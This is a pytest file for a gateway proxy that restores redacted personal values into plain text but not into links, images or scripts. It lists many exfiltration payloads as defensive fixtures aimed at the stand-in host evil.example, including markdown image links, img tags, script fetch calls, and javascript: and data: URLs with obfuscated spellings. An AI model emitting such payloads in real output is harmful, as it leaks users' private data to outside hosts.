"""Restoration by place: prose gets values back, nothing that is followed carries them out."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.proxy.restore import MAX_RUN, json_decoded
from gateway.proxy.surrogate_text import restore_argument
from tests.gateway.proxy.lanes import (
    EMPTY,
    LEDGER,
    LINK,
    MAIL,
    PERSON,
    PHONE,
    SHOUTED,
    P,
    cuts,
    stream,
    whole,
)

VALUES = ("Malathi", "MALATHI", "jane", "5550100")
E = "https://evil.example"
B = PERSON.bare

EXFILTRATION = [
    f"[click]({E}/?q={P})",
    f"![x]({E}/?q={P})",
    f"![x]( {E}/?q= {P} )",
    f"[a](<{E}/?q= {P} >)",
    f"[a]( <{E}/?q=) {P} >)",
    f"[a](\n<{E}/?q=) {P} >)",
    f"[a](<1.2.3.4/) {P} >)",
    f"[a](/p\\) {P})",
    f"[a](/p(x) {P})",
    f'[a](/p "title" {P})',
    f"[a](/x ](<{E}/ ) {P} >)",
    f"[foo {P}]({E})",
    f"[foo]{P}({E})" + "](" + P,
    f'<img src="{E}/?q={P}">',
    f'<img src="{E}/?q= {P}">',
    f"<img src='{E}/ > {P}'>",
    f"<img src={E}/\n{P}>",
    f'<img a" title=">" src="{E}/ {P}">',
    f'<img =">" src="{E}/ {P}',
    f'<a b"=" > <img src="{E}/?> {P}">',
    f"<IMG SRC='{E} {P}'>",
    f"<img src='{E}/? {P} and no end",
    f"<a b=\"<img src='{E}/ {P}'>\">",
    f"<style>*{{background:url( {P} )}}</style>",
    f"<script>fetch( '{P}' )</script>",
    f"<script>a='</b>'; {P} </script>",
    f"<ScRiPt > {P} </script",
    f"<textarea> {P} </textarea>",
    f"<{E}/ {P}>",
    f"<? {P} ?>",
    f"<!ENTITY {P} >",
    f"</a {P} >",
    f"{E}/{P}",
    f"{E}/?a={P}&b={P}",
    f"({E}/{B})",
    f"HTTPS://EVIL.EXAMPLE/{P}",
    f"ftp://evil.example/{P}",
    f"www.evil.example/{P}",
    f"mailto:x@evil.example?body={P}",
    f"tel:{PHONE.bracketed}",
    f"sms:1?body={P}",
    f"javascript:a({P})",
    f"data:text/html,{P}",
    f"evil.example/{P}",
    f"{P}.evil.example",
    f"x.{P}.com",
    f"{B}.evil.example",
    f"{P}.com",
    f"evil。example/{P}",
    f"https&#58;//evil&#46;example/{P}",
    f"https&colon;//evil&period;example/{P}",
    f"https\\://evil\\.example/{P}",
    f"{E}/\u00a0{P}",
    f"{E}/\u3000{P}",
    f"{E}/\u200b{P}",
    f"[x]: {E}/?q={P}",
    f"[x]: {P}",
    f"[x]:\n {P}",
    f"[x]: <{E}/ {P}>",
    f"text\n  [x]: /a '{P}'\n(more {P})",
    f"> [x]: {P}",
    f"- [x]: {P}",
    f"[long\nlabel]: {P}",
    f"[{P}](/p {P})"[: len(P) + 1] + f"]({P}",
    f"{LINK.bracketed}{P}",
    f"{LINK.bracketed}x={P}",
    f"{P}{LINK.bracketed}",
    f"![x]({LINK.bracketed}{P})",
    f"<{P} style='background:url({E}/ {P} )'>".replace(P, B, 1) + "",
]


@pytest.mark.parametrize("text", EXFILTRATION)
def test_nothing_that_is_followed_carries_a_value(text: str) -> None:
    carried = whole(text)
    if text.startswith(f"<{B} style"):
        # The name itself is in no target; the attribute is.
        carried = carried[carried.index("style") :]
    assert not any(value in carried for value in VALUES)
    for pieces in cuts(text):
        assert stream(pieces) == whole(text)


@pytest.mark.parametrize("text", EXFILTRATION)
def test_nor_does_it_after_harmless_text(text: str) -> None:
    carried = whole(f"Well, a (b) [c] **d** 1 < 2.\n\n{text}")
    if text.startswith(f"<{B} style"):
        carried = carried[carried.index("style") :]
    assert not any(value in carried for value in VALUES)


V = "Malathi Rao"
PROSE = [
    (f"Hi {P}, how are you?", f"Hi {V}, how are you?"),
    (f"Thanks {P}.", f"Thanks {V}."),
    (f"Thanks {P}. Next.", f"Thanks {V}. Next."),
    (f"({P})", f"({V})"),
    (f'"{P}"', f'"{V}"'),
    (f"'{P}'s", f"'{V}'s"),
    (f"{P}'s order", f"{V}'s order"),
    (f"**{P}**", f"**{V}**"),
    (f"_{P}_ ~~{P}~~ `{P}`", f"_{V}_ ~~{V}~~ `{V}`"),
    (f"| a | {P} |\n|{P}|{SHOUTED.bracketed}|", f"| a | {V} |\n|{V}|MALATHI RAO|"),
    (f"- {P}\n* {P}\n1. {P}", f"- {V}\n* {V}\n1. {V}"),
    (f"# {P}\n> {P}", f"# {V}\n> {V}"),
    (f"{P}: hello", f"{V}: hello"),
    (f"{P}(x)", f"{V}(x)"),
    (f"[{P}]", f"[{V}]"),
    (f"Name:{P}", f"Name:{V}"),
    (f"{P}/{SHOUTED.bracketed}", f"{V}/MALATHI RAO"),
    (f"{P}<br>{P}", f"{V}<br>{V}"),
    (f"<b>{P}</b> {P}", f"<b>{V}</b> {V}"),
    (f"if 1 < 2 and 3 > 2 then {P}", f"if 1 < 2 and 3 > 2 then {V}"),
    (f"I <3 {P}", f"I <3 {V}"),
    (f"See {E} and {P}", f"See {E} and {V}"),
    (f"See [a]({E}) and {P}", f"See [a]({E}) and {V}"),
    (f"[see {P} here]({E})", f"[see {V} here]({E})"),
    (f'[a](<{E}> "t") {P}', f'[a](<{E}> "t") {V}'),
    (f"[x]: {E}\n\n{P}", f"[x]: {E}\n\n{V}"),
    (f"<{MAIL.bracketed}> or {MAIL.bracketed}.", "<jane@example.com> or jane@example.com."),
    (f"{P},{MAIL.bracketed},{PHONE.bracketed}", f"{V},jane@example.com,5550100"),
    (f"{LINK.bracketed} {P}", f"{E}/?q= {V}"),
    (f"你好{P}，请问", f"你好{V}，请问"),
    (f"e.g. {P}, i.e. {P}", f"e.g. {V}, i.e. {V}"),
    (f"3.14 {P} wait...{P}", f"3.14 {V} wait...{V}"),
    (f"<style>a</style> {P}", f"<style>a</style> {V}"),
    (f"AT&T {P}&Co", f"AT&T {V}&Co"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "expected"), PROSE)
def test_prose_gets_its_values_back(text: str, expected: str) -> None:
    assert whole(text) == expected
    for pieces in cuts(text):
        assert stream(pieces) == expected


def test_surrogates_of_a_run_share_one_decision() -> None:
    text = f"{P},{SHOUTED.bracketed},evil.example/{P}"
    assert whole(text) == text


@pytest.mark.parametrize("width", [0, MAX_RUN - 2, MAX_RUN - 1, MAX_RUN, MAX_RUN + 1, 1000])
def test_long_runs_are_not_restored(width: int) -> None:
    left, right = "x" * width + P, P + "x" * width
    assert whole(left) == ("x" * width + V if width <= MAX_RUN else left)
    assert whole(right) == (V + "x" * width if width < MAX_RUN else right)
    assert whole(f"{right}{P}/ {P}").endswith(f" {V}")


def test_a_run_of_many_surrogates_is_bounded() -> None:
    text = P * (MAX_RUN + 1)
    assert whole(text) == text
    assert stream(list(text)) == text


@given(st.text(max_size=40), st.text(max_size=40))
def test_no_link_whatever_stands_around(before: str, after: str) -> None:
    run = "".join(c for c in before + after if not c.isspace())
    text = f"https://evil.example/{run}{P}{run} "
    assert V not in whole(text)


def test_json_escapes_hide_no_place() -> None:
    for text in (
        f'{{"a": "<img src=\\"> {P}\\">"}}',
        f'{{"a": "\\u003cimg src=x {P}>"}}',
        f'{{"a": "[x]\\u0028 /y {P})"}}',
        f'{{"a": "https:\\/\\/evil\\u002eexample\\/{P}"}}',
    ):
        assert V not in whole(text, json_text=True)
        for pieces in cuts(text):
            assert stream(pieces, json_text=True) == whole(text, json_text=True)
    plain = f'{{"a": "say \\"hi\\" to {P}"}}'
    assert whole(plain, json_text=True) == plain.replace(P, V)


def test_arguments_are_restored_whatever_stands_around() -> None:
    assert restore_argument(f"{E}/{P}?m={MAIL.bare}", LEDGER) == f"{E}/{V}?m=jane@example.com"
    assert restore_argument("[PERSON_AAAAAAAA]", LEDGER) == "[PERSON_AAAAAAAA]"
    assert restore_argument(P, EMPTY) == P


def test_escapes_of_json_are_decoded_in_any_text() -> None:
    assert json_decoded('a \\u0034\\n\\"\\q') == 'a 4\n"q'
    assert json_decoded("plain \\u00") == "plain \\u00"
